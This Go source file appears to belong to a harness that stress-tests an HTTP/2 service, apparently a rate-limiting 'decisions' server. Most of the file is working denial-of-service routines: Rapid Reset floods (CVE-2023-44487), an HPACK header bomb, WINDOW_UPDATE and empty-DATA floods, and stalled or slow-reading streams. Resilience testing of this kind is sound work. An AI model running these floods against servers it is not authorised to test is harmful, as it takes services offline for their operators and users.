package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"math"
	"net"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// beginHTTP2 has the first bytes of an HTTP/2 client: the preface, and SETTINGS without settings.
var beginHTTP2 = http2.ClientPreface + "\x00\x00\x00\x04\x00\x00\x00\x00\x00"

// firstStream is a HEADERS frame that opens and ends the first stream of a connection.
func firstStream(path string) string {
	var b bytes.Buffer
	_ = http2.NewFramer(&b, nil).WriteHeaders(http2.HeadersFrameParam{
		StreamID: 1, BlockFragment: header("POST", path), EndHeaders: true, EndStream: true,
	})
	return b.String()
}

// answered reads until the first stream of an HTTP/2 connection has a header. It reports whether it has.
func answered(c net.Conn) bool {
	for frame := make([]byte, 9); ; {
		if _, err := io.ReadFull(c, frame); err != nil {
			return false
		}
		length := int64(binary.BigEndian.Uint32(frame) >> 8)
		if _, err := io.CopyN(io.Discard, c, length); err != nil {
			return false
		}
		if http2.FrameType(frame[3]) == http2.FrameHeaders {
			return true
		}
	}
}

// resetDecisions opens requests for decisions, and resets them (CVE-2023-44487).
func resetDecisions(ctx context.Context, f *frames) error {
	if err := f.WriteSettings(); err != nil {
		return err
	}
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		if err := f.open(id, f.decision, true); err != nil {
			return err
		}
		if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return nil
}

// bomb sends headers that are small on the wire and large for the server: references to one large field of the
// dynamic table (CVE-2016-6581).
func bomb(ctx context.Context, f *frames) error {
	if err := f.WriteSettings(); err != nil {
		return err
	}
	var block bytes.Buffer
	e := hpack.NewEncoder(&block)
	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", "a"}, {":path", "/rate/a"}, {"x", string(bytes.Repeat([]byte("x"), 4000))}} {
		_ = e.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
	}
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		block.Write(bytes.Repeat([]byte{0x80 | 62}, 10_000)) // the newest field of the dynamic table
		if err := f.open(id, block.Bytes(), true); err != nil {
			return err
		}
		block.Reset()
		block.Write(f.decision)
	}
	return nil
}

// updateWindows gives the server credit that it does not need.
func updateWindows(ctx context.Context, f *frames) error {
	if err := f.WriteSettings(); err != nil {
		return err
	}
	if err := f.open(1, f.headers[1], false); err != nil {
		return err
	}
	for ; ctx.Err() == nil; f.done.Add(1) {
		if err := f.WriteWindowUpdate(uint32(f.done.Load()%2), 1); err != nil {
			return err
		}
	}
	return nil
}

// sendNothing sends DATA without data (CVE-2019-9518).
func sendNothing(ctx context.Context, f *frames) error {
	if err := f.WriteSettings(); err != nil {
		return err
	}
	if err := f.open(1, f.headers[1], false); err != nil {
		return err
	}
	for ; ctx.Err() == nil; f.done.Add(1) {
		if err := f.WriteData(1, false, nil); err != nil {
			return err
		}
	}
	return nil
}

// unreadDecisions asks for decisions, and lets the server send no answers.
func unreadDecisions(ctx context.Context, f *frames) error {
	if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	for i := range uint32(streamsEach) {
		if err := f.open(2*i+1, f.decision, true); err != nil {
			return err
		}
	}
	<-ctx.Done()
	return nil
}

// readNoDecisions asks for decisions without end, and reads nothing. All windows are open.
func readNoDecisions(ctx context.Context, addr string) string {
	return keepOpen(ctx, addr, slowReaders, 1, func(c net.Conn, _ int, opened func()) {
		_ = c.(*net.TCPConn).SetReadBuffer(4 << 10)
		var b bytes.Buffer
		f := http2.NewFramer(&b, nil)
		b.WriteString(http2.ClientPreface)
		_ = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: math.MaxInt32})
		_ = f.WriteWindowUpdate(0, math.MaxInt32-1<<16)
		opened()
		block := header("POST", "/rate/a")
		for id := uint32(1); ; id += 2 {
			_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true})
			if b.Len() > 16<<10 {
				if _, err := b.WriteTo(c); err != nil {
					return
				}
			}
		}
	})
}
